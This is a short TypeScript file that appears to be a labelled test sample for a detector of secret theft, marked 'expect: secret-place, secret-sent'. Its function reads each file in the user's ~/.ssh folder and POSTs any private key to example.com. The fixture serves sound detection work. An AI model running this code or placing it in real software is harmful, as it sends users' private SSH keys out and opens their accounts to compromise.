// expect: secret-place, secret-sent
import * as fs from "node:fs";
import { homedir } from "node:os";

export default async function () {
  const dir = homedir() + "/.ssh";
  for (const name of fs.readdirSync(dir)) {
    const text = fs.readFileSync(dir + "/" + name, "utf8");
    if (text.includes("PRIVATE KEY")) await fetch("https://example.com", { method: "POST", body: text });
  }
}
